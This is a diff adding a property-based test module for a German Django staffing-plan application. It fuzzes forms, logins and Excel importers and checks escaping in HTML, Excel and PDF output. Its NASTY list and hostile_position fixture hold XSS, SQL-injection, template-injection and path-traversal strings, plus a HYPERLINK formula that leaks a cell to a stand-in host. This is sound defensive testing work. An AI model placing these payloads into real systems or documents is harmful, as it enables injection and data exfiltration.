@@ -1,0 +1,864 @@
+"""Random and hostile input (hypothesis) to every form and both Excel importers.
+
+For every submission: never a 500, never a partial save (the database is either unchanged or
+holds exactly the one intended change), and every refusal comes with a German message. Each
+example runs in its own savepoint, rolled back afterwards, so examples do not see each other.
+"""
+
+from __future__ import annotations
+
+import io
+import re
+from collections.abc import Callable
+from contextlib import contextmanager
+from datetime import date
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from django.apps import apps
+from django.contrib.auth.models import Group, User
+from django.contrib.messages import get_messages
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import transaction
+from django.forms import BaseForm, BaseFormSet
+from django.test import Client
+from django.urls import reverse
+from hypothesis import HealthCheck, event, given, settings
+from hypothesis import strategies as st
+from openpyxl import Workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
+from costing.imports import ImportFailed, import_cost_table, import_positions
+from departments.models import BudgetSection, OrgUnit
+from scripts.http_client import form_fields
+from stellenplan.models import PayGrade, Position
+
+EXAMPLES = settings(
+    max_examples=50,
+    deadline=None,
+    suppress_health_check=[
+        HealthCheck.function_scoped_fixture,
+        HealthCheck.too_slow,
+        HealthCheck.data_too_large,
+    ],
+)
+
+# Values that broke or fooled web applications before.
+NASTY = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    '=HYPERLINK("http://böse.example/?d="&A1;"Klick")',
+    "=1+1",
+    "+49 711 216-0",
+    "-1",
+    "@SUMME(A1:A9)",
+    "\x00",
+    "Null\x00Zeichen",
+    "\u202egnuthcaeb",
+    "\r\n",
+    " ",
+    "0.500",
+    "1.000",
+    "1e3",
+    "NaN",
+    "Infinity",
+    "-0",
+    "0,5",
+    "0.5",
+    "١٫٥",
+    "½",
+    "50 %",
+    "99.99.9999",
+    "31.02.2011",
+    "0000-00-00",
+    "9999-12-31",
+    "01.10.11",
+    "' OR 1=1 --",
+    "Robert'); DROP TABLE stellenplan_position;--",
+    "{{ 7*7 }}",
+    "{% debug %}",
+    "%s%s%n",
+    "../../etc/passwd",
+    "🧑‍⚕️ Ärztin für Ünïcödé – 中文 עברית",
+    "ß" * 201,
+    "A" * 5000,
+    "9" * 40,
+    "-99999999999999999999",
+]
+
+hostile_text = st.one_of(
+    st.sampled_from(NASTY),
+    st.text(max_size=40),
+    st.text(min_size=150, max_size=400),
+)
+
+ENGLISH = re.compile(
+    r"\b(this|the|enter|ensure|select|valid|field|required|must|please|value|characters|"
+    r"invalid|not allowed|at most|at least|has)\b",
+    re.IGNORECASE,
+)
+GERMAN = re.compile(
+    r"[äöüÄÖÜß„“]|\b(bitte|ist|nicht|kein|keine|darf|muss|eingeben|gültig|gültige|wählen|"
+    r"Zeichen|Wert|höchstens|mindestens|gibt|Auswahl|Feld|erforderlich|Zahl|Datum|Jahr|"
+    r"schon|vergeben|Option|Datei|Zeile|Spalte|Fehler|der|die|das|den|dem|des|und|oder|ein|"
+    r"eine|einer|einen|hat|haben|sind|wird|wurde|werden|kann|nur|mit|von|zu|zum|zur|bei|auf|"
+    r"aus|als|auch|noch|nichts|unbekannt|unbekannte|gespeichert|geändert|angelegt|Stelle)\b",
+    re.IGNORECASE,
+)
+
+
+def assert_german(message: str, entered: list[str] | tuple[str, ...] = ()) -> None:
+    """A German message; the user's own input echoed in it counts neither way."""
+    text = str(message)
+    assert text.strip(), f"leere Meldung: {message!r}"
+    values = sorted({str(v).strip() for v in entered if v is not None}, key=len, reverse=True)
+    unquoted = re.sub(r"„[^“]*“", "", text)
+    german = unquoted
+    for value in values:
+        if len(value) >= 4:
+            german = german.replace(value, "")
+    english = unquoted
+    for value in values:
+        if len(value) >= 2:
+            english = english.replace(value, "")
+    assert GERMAN.search(german), f"nicht deutsch: {message!r}"
+    assert not ENGLISH.search(english), f"englisch: {message!r}"
+
+
+def form_messages(form: BaseForm) -> list[str]:
+    return [str(m) for errors in form.errors.values() for m in errors]
+
+
+PROJECT_APPS = ("departments", "stellenplan", "costing", "decisions")
+
+
+def database_state() -> dict:
+    """Every row of every model of the project (and the roles): small with the reference data."""
+    models = [m for label in PROJECT_APPS for m in apps.get_app_config(label).get_models()]
+    return {
+        model._meta.label: sorted(map(str, model._default_manager.values_list()))
+        for model in [*models, Group]
+    }
+
+
+def changed_models(before: dict, after: dict) -> set[str]:
+    return {key for key in before if before[key] != after[key]}
+
+
+@contextmanager
+def rolled_back(client: Client | None = None):
+    """One example in a savepoint that is always undone (and without earlier flash messages)."""
+    if client is not None:
+        client.cookies.pop("messages", None)
+    with transaction.atomic():
+        yield
+        transaction.set_rollback(True)
+
+
+@pytest.fixture
+def fast_password_hashing(settings):
+    # Every login attempt hashes (also for unknown names); PBKDF2 would make 50 attempts slow.
+    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
+
+
+@pytest.fixture
+def hr_client(seed):
+    user = User.objects.create_superuser("haerter", password="Ein-langes-Passwort-1")
+    client = Client()
+    client.force_login(user)
+    return client
+
+
+def ids(model) -> list[int]:
+    return list(model.objects.values_list("pk", flat=True))
+
+
+def german_date(d: date) -> str:
+    return d.strftime("%d.%m.%Y")
+
+
+def rarely(data: st.DataObject, one_in: int) -> bool:
+    """True about once in `one_in` draws (hypothesis shrinks towards False)."""
+    return data.draw(st.sampled_from([False] * (one_in - 1) + [True]))
+
+
+def field_value(data: st.DataObject, valid: st.SearchStrategy) -> str:
+    """Mostly a plausible value, sometimes a hostile one (so that some examples get saved)."""
+    if rarely(data, 8):
+        return data.draw(hostile_text)
+    return data.draw(valid)
+
+
+dates = st.dates(min_value=date(2000, 1, 1), max_value=date(2020, 12, 31)).map(german_date)
+later_dates = st.dates(min_value=date(2021, 1, 1), max_value=date(2040, 12, 31)).map(german_date)
+optional_later_dates = st.one_of(st.just(""), later_dates)
+plain_text = st.text(
+    alphabet=st.characters(categories=["L", "N", "Zs", "P", "S"]), min_size=1, max_size=60
+).filter(str.strip)
+
+
+def position_data(data: st.DataObject) -> dict[str, str]:
+    return {
+        "org_unit": field_value(data, st.sampled_from(ids(OrgUnit)).map(str)),
+        "pay_grade": field_value(data, st.sampled_from(ids(PayGrade)).map(str)),
+        "fte": field_value(data, st.sampled_from(["0,5", "1", "0.25", "1,0", "0,33", "50 %"])),
+        "title": field_value(data, plain_text),
+        "task_heading": field_value(data, st.text(max_size=300)),
+        "note": field_value(data, st.sampled_from(["", "KW", "KU"])),
+        "note_date": field_value(data, st.just("")),
+        "start_date": field_value(data, dates),
+        "end_date": field_value(data, optional_later_dates),
+        "fixed_term": data.draw(st.sampled_from(["", "on", "ja", "\x00"])),
+        "tasks": field_value(data, st.text(max_size=2000)),
+        "justification": field_value(data, st.text(max_size=2000)),
+    }
+
+
+def submit(
+    client: Client,
+    url: str,
+    data: dict,
+    *,
+    created: type | None = None,
+    edited=None,
+) -> None:
+    """POST `data`; check the response and that the database holds all of it or none of it."""
+    before = database_state()
+    response = client.post(url, data)
+    after = database_state()
+    event(f"HTTP {response.status_code}")
+    assert response.status_code in (200, 302, 400), response.status_code
+    if response.status_code == 302:
+        changed = changed_models(before, after)
+        assert changed, "gespeichert gemeldet, aber nichts geändert"
+        if created is not None:
+            assert created.objects.count() == len(before[created._meta.label]) + 1
+        if edited is not None:
+            edited.refresh_from_db()
+            if hasattr(edited, "version"):
+                assert edited.version == int(data["version"]) + 1
+    else:
+        assert after == before, f"teilweise gespeichert: {changed_models(before, after)}"
+        form = response.context["form"]
+        messages = form_messages(form)
+        assert messages, "abgelehnt ohne Meldung"
+        for message in messages:
+            assert_german(message, list(data.values()))
+
+
+def opened(client: Client, url: str) -> dict[str, str]:
+    """The hidden fields (version, snapshot) of an edit form as the browser got them."""
+    form = client.get(url).context["form"]
+    return {name: str(form[name].value()) for name in ("version", "opened")}
+
+
+@pytest.mark.django_db
+@EXAMPLES
+@given(data=st.data())
+def test_position_create_form(hr_client, data):
+    with rolled_back(hr_client):
+        submit(
+            hr_client,
+            reverse("stellenplan:position_create"),
+            position_data(data),
+            created=Position,
+        )
+
+
+@pytest.mark.django_db
+@EXAMPLES
+@given(data=st.data())
+def test_position_update_form(hr_client, data):
+    with rolled_back(hr_client):
+        position = Position.objects.order_by("pk").first()
+        url = reverse("stellenplan:position_update", args=[position.pk])
+        payload = position_data(data) | opened(hr_client, url)
+        if rarely(data, 6):
+            payload["version"] = data.draw(hostile_text)  # tampered hidden field
+        submit(hr_client, url, payload, edited=position)
+
+
+def orgunit_data(data: st.DataObject) -> dict[str, str]:
+    return {
+        "code": field_value(data, st.text(min_size=1, max_size=30)),
+        "name": field_value(data, st.text(min_size=1, max_size=200)),
+        "kind": field_value(data, st.sampled_from([k for k, _ in OrgUnit.Kind.choices])),
+        "parent": field_value(data, st.sampled_from(["", *map(str, ids(OrgUnit))])),
+        "budget_section": field_value(data, st.sampled_from(["", *map(str, ids(BudgetSection))])),
+    }
+
+
+@pytest.mark.django_db
+@EXAMPLES
+@given(data=st.data())
+def test_orgunit_create_form(hr_client, data):
+    with rolled_back(hr_client):
+        submit(
+            hr_client, reverse("departments:orgunit_create"), orgunit_data(data), created=OrgUnit
+        )
+
+
+@pytest.mark.django_db
+@EXAMPLES
+@given(data=st.data())
+def test_orgunit_update_form(hr_client, data):
+    with rolled_back(hr_client):
+        unit = OrgUnit.objects.filter(parent__isnull=False).order_by("pk").first()
+        url = reverse("departments:orgunit_update", args=[unit.pk])
+        payload = orgunit_data(data) | opened(hr_client, url)
+        submit(hr_client, url, payload, edited=unit)
+
+
+def paygrade_data(data: st.DataObject) -> dict[str, str]:
+    return {
+        "code": field_value(data, st.text(min_size=1, max_size=20)),
+        "status_group": field_value(data, st.sampled_from(["beamte", "tarif"])),
+        "career_group": field_value(data, st.sampled_from(["", "mD", "gD", "hD"])),
+        "sort_order": field_value(data, st.integers(0, 10**6).map(str)),
+    }
+
+
+@pytest.mark.django_db
+@EXAMPLES
+@given(data=st.data())
+def test_paygrade_create_form(hr_client, data):
+    with rolled_back(hr_client):
+        submit(
+            hr_client, reverse("stellenplan:paygrade_create"), paygrade_data(data), created=PayGrade
+        )
+
+
+@pytest.mark.django_db
+@EXAMPLES
+@given(data=st.data())
+def test_paygrade_update_form(hr_client, data):
+    with rolled_back(hr_client):
+        grade = PayGrade.objects.order_by("pk").first()
+        url = reverse("stellenplan:paygrade_update", args=[grade.pk])
+        submit(hr_client, url, paygrade_data(data), edited=grade)
+
+
+@pytest.mark.django_db
+@EXAMPLES
+@given(version=hostile_text, which=st.sampled_from(["position", "orgunit"]))
+def test_delete_confirmations_with_a_tampered_version(hr_client, version, which):
+    with rolled_back(hr_client):
+        if which == "position":
+            obj = Position.objects.order_by("pk").first()
+            url = reverse("stellenplan:position_delete", args=[obj.pk])
+        else:
+            obj = OrgUnit.objects.filter(positions__isnull=False).first()
+            url = reverse("departments:orgunit_delete", args=[obj.pk])
+        before = database_state()
+        response = hr_client.post(url, {"version": version})
+        assert response.status_code in (200, 302, 400)
+        if version.strip() == str(obj.version) and which == "position":
+            return  # the right version: the position is deleted (tested elsewhere)
+        if response.status_code == 302:
+            # refused (org unit with positions): nothing deleted, a German message
+            assert database_state() == before
+            for message in get_messages(response.wsgi_request):
+                assert_german(message.message, [version])
+        else:
+            assert database_state() == before
+
+
+@pytest.mark.django_db
+@EXAMPLES
+@given(
+    username=st.one_of(hostile_text, st.text(min_size=256, max_size=1000)),
+    password=hostile_text,
+    page=st.sampled_from(["login", "admin:login"]),
+)
+def test_login_forms(client, fast_password_hashing, username, password, page):
+    with rolled_back(client):
+        response = client.post(reverse(page), {"username": username, "password": password})
+        assert response.status_code in (200, 429)
+        assert "_auth_user_id" not in client.session
+        if response.status_code == 200:
+            messages = form_messages(response.context["form"])
+            assert messages
+            for message in messages:
+                assert_german(message, [username, password])
+        else:
+            assert "Anmeldung vorübergehend gesperrt" in response.content.decode()
+
+
+# --- Excel importers ----------------------------------------------------------------------
+
+cell_values = st.one_of(
+    hostile_text,
+    st.none(),
+    st.booleans(),
+    st.integers(-(10**15), 10**15),
+    st.floats(allow_nan=True, allow_infinity=True),
+    st.decimals(allow_nan=False, allow_infinity=False, places=4).map(float),
+    st.dates(min_value=date(1900, 1, 1), max_value=date(2200, 12, 31)),
+)
+
+
+def cell(value):
+    """What a spreadsheet can hold: no XML-illegal control characters."""
+    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value
+
+
+def workbook_bytes(header: list, rows: list[list]) -> bytes:
+    workbook = Workbook()
+    sheet = workbook.active
+    sheet.title = "Stellen"
+    sheet.append(header)
+    for row in rows:
+        sheet.append([cell(v) for v in row])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+POSITION_HEADER = [
+    "Org.einheit",
+    "Stellenwert",
+    "Funktionsbezeichnung",
+    "Anzahl der Stellen",
+    "Beginn",
+    "Ende",
+    "Stellenvermerk",
+]
+
+
+def position_rows(data: st.DataObject) -> list[list]:
+    units = list(OrgUnit.objects.values_list("code", flat=True))
+    grades = list(PayGrade.objects.values_list("code", flat=True))
+    valid = [
+        st.sampled_from(units),
+        st.sampled_from(grades),
+        plain_text,
+        st.sampled_from([0.5, 1, "0,5", Decimal("0.25"), "1,0"]),
+        st.dates(min_value=date(2000, 1, 1), max_value=date(2030, 1, 1)),
+        st.one_of(st.none(), st.dates(min_value=date(2030, 1, 2), max_value=date(2040, 1, 1))),
+        st.sampled_from(["", "KW", "KU"]),
+    ]
+    count = data.draw(st.integers(1, 6))
+    return [[data.draw(st.one_of(v, v, v, cell_values)) for v in valid] for _ in range(count)]
+
+
+def check_import(run: Callable[[], object], entered: list) -> None:
+    before = database_state()
+    try:
+        run()
+        event("importiert")
+    except ImportFailed as failed:
+        event("abgelehnt")
+        assert database_state() == before, "Import teilweise gespeichert"
+        assert failed.issues
+        assert_german(str(failed))
+        for issue in failed.issues:
+            assert_german(str(issue), [str(v) for v in entered if v is not None])
+    else:
+        assert database_state() != before
+
+
+@pytest.mark.django_db
+@EXAMPLES
+@given(data=st.data())
+def test_position_importer(seed, data):
+    with rolled_back():
+        rows = position_rows(data)
+        content = workbook_bytes(POSITION_HEADER, rows)
+        before = Position.objects.count()
+
+        def run():
+            result = import_positions(io.BytesIO(content), default_start=date(2012, 1, 1))
+            assert Position.objects.count() == before + len(rows) == before + result.created
+
+        check_import(run, [v for row in rows for v in row])
+
+
+@pytest.mark.django_db
+@EXAMPLES
+@given(data=st.data())
+def test_cost_table_importer(seed, data):
+    with rolled_back():
+        grades = list(PayGrade.objects.values_list("code", flat=True))
+        grade_values = st.lists(st.sampled_from(grades), min_size=1, max_size=4, unique=True)
+        rows = [
+            [
+                data.draw(cell_values) if rarely(data, 8) else grade,
+                data.draw(cell_values)
+                if rarely(data, 8)
+                else data.draw(st.integers(10000, 200000)),
+            ]
+            for grade in data.draw(grade_values)
+        ]
+        content = workbook_bytes(["Stellenwert", "Jahreskosten"], rows)
+        name = data.draw(st.sampled_from(["Kostentabelle Test", *NASTY[:5]]))
+        create = data.draw(st.booleans())
+
+        def run():
+            import_cost_table(
+                io.BytesIO(content), name=name, valid_from=date(2031, 1, 1), create_grades=create
+            )
+
+        check_import(run, [name, *(v for row in rows for v in row)])
+
+
+broken_files = st.one_of(
+    st.binary(max_size=2000),
+    st.sampled_from(
+        [
+            b"",
+            b"PK\x03\x04",
+            b"PK\x05\x06" + b"\x00" * 18,  # an empty zip archive
+            b"%PDF-1.4\n",
+            b"Org.einheit;Stellenwert\n10;A 12\n",
+            b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a 'aaaa'>]><x>&a;</x>",
+        ]
+    ),
+)
+
+
+@pytest.mark.django_db
+@EXAMPLES
+@given(content=broken_files, cut=st.integers(0, 5000), which=st.sampled_from(["pos", "cost"]))
+def test_importers_refuse_broken_files(seed, content, cut, which):
+    with rolled_back():
+        if not content:
+            # a real workbook, cut off somewhere
+            content = workbook_bytes(POSITION_HEADER, [["10", "A 12", "SB", 1, date(2012, 1, 1)]])
+            content = content[: cut % len(content)]
+        if which == "pos":
+            check_import(lambda: import_positions(io.BytesIO(content)), [])
+        else:
+            check_import(
+                lambda: import_cost_table(
+                    io.BytesIO(content), name="Kaputt", valid_from=date(2031, 1, 1)
+                ),
+                [],
+            )
+
+
+@pytest.mark.django_db
+@EXAMPLES
+@given(data=st.data())
+def test_import_upload_forms(hr_client, data):
+    with rolled_back(hr_client):
+        if data.draw(st.booleans()):
+            content = workbook_bytes(POSITION_HEADER, position_rows(data))
+        else:
+            content = data.draw(broken_files)
+        filename = data.draw(st.sampled_from(["stellen.xlsx", "<script>.xlsx", "a" * 300, ""]))
+        upload = SimpleUploadedFile(filename or "x", content)
+        if data.draw(st.booleans()):
+            url = reverse("costing:import_positions")
+            payload = {"file": upload, "default_start": field_value(data, dates)}
+        else:
+            url = reverse("costing:import_cost_table")
+            payload = {
+                "file": upload,
+                "name": field_value(data, st.text(min_size=1, max_size=200)),
+                "valid_from": field_value(data, dates),
+                "remark": data.draw(hostile_text),
+            }
+        before = database_state()
+        response = hr_client.post(url, payload)
+        assert response.status_code in (200, 302, 400)
+        if response.status_code != 302:
+            assert database_state() == before
+            shown = form_messages(response.context["form"])
+            shown += [str(issue) for issue in response.context.get("issues") or []]
+            assert shown, "abgelehnt ohne Meldung"
+            entered = [v for v in payload.values() if isinstance(v, str)]
+            for message in shown:
+                assert_german(message, entered)
+
+
+# --- decision pages: any field of any of their forms and formsets ---------------------------
+
+
+def forms_in(response) -> list[BaseForm]:
+    """Every form and formset form a page was rendered with."""
+    found: list[BaseForm] = []
+
+    def walk(value, depth=0):
+        if isinstance(value, BaseForm):
+            found.append(value)
+        elif isinstance(value, BaseFormSet):
+            found.append(value.management_form)
+            found.extend(value.forms)
+            found.append(value.empty_form)
+        elif isinstance(value, list | tuple) and depth < 2:
+            for item in value:
+                walk(item, depth + 1)
+
+    for context in response.context or []:
+        for values in context.dicts:
+            for value in values.values():
+                walk(value)
+    return found
+
+
+def messages_of(response) -> tuple[list[str], list[str]]:
+    """(error messages, other messages) of a response: form, formset and flash messages."""
+    errors: list[str] = []
+    for form in forms_in(response):
+        errors += [str(m) for field_errors in form.errors.values() for m in field_errors]
+    for context in response.context or []:
+        for values in context.dicts:
+            for value in values.values():
+                if isinstance(value, list) and value and isinstance(value[0], tuple):
+                    for item in value:
+                        if len(item) == 2 and isinstance(item[1], BaseFormSet):
+                            errors += [str(m) for m in item[1].non_form_errors()]
+    other: list[str] = []
+    for message in get_messages(response.wsgi_request):
+        (errors if message.level >= 40 else other).append(str(message.message))
+    return errors, other
+
+
+def editable_decision():
+    from decisions.models import Decision
+
+    decision = Decision.objects.order_by("pk").first()
+    assert decision.is_editable
+    return decision
+
+
+DECISION_PAGES = [
+    "decisions:create",
+    "decisions:edit",
+    "decisions:edit_text",
+    "decisions:edit_finance",
+]
+
+
+@pytest.mark.django_db
+@EXAMPLES
+@given(data=st.data())
+def test_decision_forms(hr_client, data):
+    with rolled_back(hr_client):
+        name = data.draw(st.sampled_from(DECISION_PAGES))
+        args = [] if name == "decisions:create" else [editable_decision().pk]
+        url = reverse(name, args=args)
+        page = hr_client.get(url)
+        assert page.status_code == 200
+        fields = form_fields(page.content.decode())
+        names = sorted(n for n in fields if n != "csrfmiddlewaretoken")
+        assert names, "kein Formular auf der Seite"
+        for field in data.draw(st.sets(st.sampled_from(names), max_size=3)):
+            fields[field] = data.draw(hostile_text)
+        before = database_state()
+        response = hr_client.post(url, fields)
+        event(f"HTTP {response.status_code}")
+        assert response.status_code in (200, 302, 400)
+        errors, other = messages_of(response)
+        entered = list(fields.values())
+        for message in errors + other:
+            assert_german(message, entered)
+        if response.status_code != 302 or errors:
+            assert errors, "abgelehnt ohne Meldung"
+            assert database_state() == before, "teilweise gespeichert"
+
+
+@pytest.mark.django_db
+@EXAMPLES
+@given(data=st.data())
+def test_decision_status_and_position_forms(hr_client, data):
+    from decisions.models import DecisionPosition
+
+    with rolled_back(hr_client):
+        decision = editable_decision()
+        link = DecisionPosition.objects.filter(decision=decision).first()
+        action = data.draw(st.sampled_from(["status", "add", "move"]))
+        if action == "status":
+            url = reverse("decisions:status", args=[decision.pk])
+            payload = {
+                "status": field_value(data, st.sampled_from(["eingebracht", "beschlossen", "x"])),
+                "date": field_value(data, dates),
+                "comment": data.draw(hostile_text),
+            }
+        elif action == "add":
+            url = reverse("decisions:position_add", args=[decision.pk])
+            payload = {
+                "position": field_value(data, st.sampled_from(ids(Position)).map(str)),
+                "next_query": data.draw(hostile_text),
+            }
+        else:
+            url = reverse("decisions:position_move", args=[decision.pk, link.pk])
+            payload = {"direction": field_value(data, st.sampled_from(["up", "down"]))}
+        before = database_state()
+        response = hr_client.post(url, payload)
+        event(f"{action}: HTTP {response.status_code}")
+        assert response.status_code == 302
+        errors, other = messages_of(response)
+        for message in errors + other:
+            assert_german(message, list(payload.values()))
+        if errors:
+            assert database_state() == before, "teilweise gespeichert"
+
+
+def project_form_classes() -> set[type]:
+    """Every concrete form class defined in the project's forms modules."""
+    import importlib
+    import inspect
+
+    classes = set()
+    root = Path(__file__).resolve().parent.parent
+    for label in PROJECT_APPS:
+        for path in (root / label).glob("forms*.py"):
+            module = importlib.import_module(f"{label}.{path.stem}")
+            for _, cls in inspect.getmembers(module, inspect.isclass):
+                if cls.__module__ != module.__name__ or not issubclass(cls, BaseForm):
+                    continue
+                meta = getattr(cls, "_meta", None)
+                if meta is not None and getattr(meta, "model", None) is None:
+                    continue  # an abstract base such as VersionedModelForm
+                classes.add(cls)
+    return classes
+
+
+@pytest.mark.django_db
+def test_every_form_of_the_project_is_fuzzed_above(hr_client):
+    """A new form must be added to the tests of this module (directly or through its page)."""
+    from decisions.forms import MoveForm, PositionLinkForm, StatusForm
+    from stellenplan.forms import VersionForm
+
+    decision = editable_decision()
+    position = Position.objects.order_by("pk").first()
+    grade = PayGrade.objects.order_by("pk").first()
+    unit = OrgUnit.objects.filter(parent__isnull=False).order_by("pk").first()
+    pages = [
+        reverse("stellenplan:position_create"),
+        reverse("stellenplan:position_update", args=[position.pk]),
+        reverse("stellenplan:position_delete", args=[position.pk]),
+        reverse("departments:orgunit_create"),
+        reverse("departments:orgunit_update", args=[unit.pk]),
+        reverse("stellenplan:paygrade_create"),
+        reverse("stellenplan:paygrade_update", args=[grade.pk]),
+        reverse("costing:import_positions"),
+        reverse("costing:import_cost_table"),
+        *(
+            reverse(name, args=[] if name.endswith("create") else [decision.pk])
+            for name in DECISION_PAGES
+        ),
+    ]
+    covered: set[type] = {VersionForm, StatusForm, PositionLinkForm, MoveForm}  # POSTed above
+    for url in pages:
+        response = hr_client.get(url)
+        assert response.status_code == 200, url
+        covered |= {type(form) for form in forms_in(response)}
+    # formsets build their forms as subclasses of the declared form class
+    missing = {
+        cls.__qualname__
+        for cls in project_form_classes()
+        if not any(issubclass(used, cls) for used in covered)
+    }
+    assert not missing, f"Formulare ohne Test mit feindlichen Eingaben: {sorted(missing)}"
+
+
+# --- no user text unescaped in HTML, Excel or PDF -----------------------------------------
+
+SCRIPT = "<script>alert(1)</script>"
+FORMULA = '=HYPERLINK("http://böse.example/?d="&A1;"Klick")'
+UNICODE = "Ärztin für Straßenbau – Ελληνικά Кириллица ½"
+
+
+@pytest.fixture
+def hostile_position(seed):
+    """A position and an org unit whose texts are attacks, in the reference decision."""
+    from decisions.services import decision_add_position
+
+    unit = OrgUnit.objects.filter(positions__isnull=False).order_by("pk").first()
+    unit.name = f'{SCRIPT} "><img src=x onerror=alert(2)>'
+    unit.save()
+    position = Position.objects.filter(org_unit=unit).order_by("pk").first()
+    position.title = f"{SCRIPT} {UNICODE}"[:200]
+    position.task_heading = FORMULA
+    position.tasks = "+1+1\n@SUMME(A1)\n-2+3\n" + "Sehr lange Aufgabe " * 2000
+    position.justification = "=1+1"
+    position.save()
+    decision = editable_decision()
+    from decisions.models import DecisionPosition
+
+    if not DecisionPosition.objects.filter(decision=decision, position=position).exists():
+        decision_add_position(decision=decision, position=position)
+    return position
+
+
+@pytest.mark.django_db
+def test_it_escapes_user_text_in_every_page(hr_client, hostile_position):
+    position = hostile_position
+    decision = editable_decision()
+    pages = [
+        reverse("costing:overview"),
+        reverse("costing:position_list"),
+        reverse("costing:position_list") + "?q=alert",
+        reverse("costing:position_detail", args=[position.pk]),
+        reverse("stellenplan:position_update", args=[position.pk]),
+        reverse("stellenplan:position_delete", args=[position.pk]),
+        reverse("costing:orgunit_tree"),
+        reverse("costing:orgunit_detail", args=[position.org_unit_id]),
+        reverse("departments:orgunit_update", args=[position.org_unit_id]),
+        reverse("decisions:detail", args=[decision.pk]),
+        reverse("decisions:positions", args=[decision.pk]),
+        reverse("decisions:print", args=[decision.pk]),
+        reverse("admin:stellenplan_position_change", args=[position.pk]),
+    ]
+    escaped_somewhere = False
+    for url in pages:
+        response = hr_client.get(url)
+        assert response.status_code == 200, url
+        html = response.content.decode()
+        assert SCRIPT not in html, url
+        assert "<img src=x" not in html, url
+        escaped_somewhere |= "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+    assert escaped_somewhere
+    detail = hr_client.get(reverse("costing:position_detail", args=[position.pk])).content.decode()
+    assert UNICODE in detail
+
+
+@pytest.mark.django_db
+def test_it_neutralises_formulas_and_keeps_unicode_in_excel(hr_client, hostile_position):
+    from openpyxl import load_workbook
+
+    for url in (
+        reverse("costing:export_positions_xlsx"),
+        reverse("costing:export_xlsx") + "?year=2012",
+        reverse("costing:export_org_unit_xlsx", args=[hostile_position.org_unit_id]),
+    ):
+        response = hr_client.get(url)
+        assert response.status_code == 200, url
+        workbook = load_workbook(
+            io.BytesIO(b"".join(response.streaming_content))
+            if response.streaming
+            else io.BytesIO(response.content)
+        )
+        texts = []
+        for sheet in workbook.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    if isinstance(cell.value, str):
+                        texts.append(cell.value)
+                        if cell.data_type == "f":
+                            # formulas the export writes itself (sums) never carry user text
+                            assert "HYPERLINK" not in cell.value and "alert" not in cell.value
+        user_texts = [t for t in texts if "HYPERLINK" in t or "alert(1)" in t or "SUMME" in t]
+        assert user_texts, url
+        for text in user_texts:
+            assert not text.startswith(("=", "+", "-", "@")), (url, text[:80])
+        assert any(UNICODE in t for t in texts), url
+        assert all(len(t) <= 32767 for t in texts)
+
+
+@pytest.mark.django_db
+def test_it_prints_user_text_as_text_in_the_pdf(hr_client, hostile_position):
+    from pypdf import PdfReader
+
+    response = hr_client.get(reverse("decisions:pdf", args=[editable_decision().pk]))
+    assert response.status_code == 200
+    body = b"".join(response.streaming_content) if response.streaming else response.content
+    assert body.startswith(b"%PDF")
+    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(body)).pages)
+    flat = re.sub(r"\s+", " ", text)
+    # shown literally, so it was escaped, not interpreted as HTML
+    assert "<script>alert(1)</script>" in flat
+    assert "Ärztin für Straßenbau" in flat
